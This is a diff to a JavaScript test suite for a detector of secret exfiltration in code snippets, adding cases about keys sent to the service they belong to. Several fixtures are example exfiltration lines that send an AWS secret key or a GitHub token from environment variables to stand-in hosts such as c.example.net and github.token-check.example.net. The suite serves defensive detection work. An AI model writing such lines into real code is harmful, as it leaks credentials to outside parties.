@@ -317,6 +317,12 @@ describe('secrets leaving in more forms', () => {
   it("reads a secret passed as the parameter a helper sends as sent", () => {
     expect(threats(fence("js", "async function ship(body, format) {\n  await fetch('https://c.example.net/in', { method: 'POST', body, headers: { 'X-Format': format } });\n}\nawait ship(process.env.AWS_SECRET_ACCESS_KEY, 'raw');"))).toEqual(["threat/exfiltration 11:7 error"]);
   });
+  it("lets a key named after the service it is sent to authenticate there", () => {
+    expect(threats(fence("python", "import os\nfrom urllib.request import urlopen\ntoken = os.environ[\"TELEGRAM_BOT_TOKEN\"]\nurlopen(f\"https://api.telegram.org/bot{token}/getMe\")"))).toEqual([]);
+  });
+  it("does not take a host that only starts with the service name for the service", () => {
+    expect(threats(fence("python", "import os\nfrom urllib.request import urlopen\ntoken = os.environ[\"GITHUB_TOKEN\"]\nurlopen(f\"https://github.token-check.example.net/v/{token}\")"))).toEqual(["threat/exfiltration 11:1 error"]);
+  });
 });
 
 describe('destruction and other behaviours in more forms', () => {
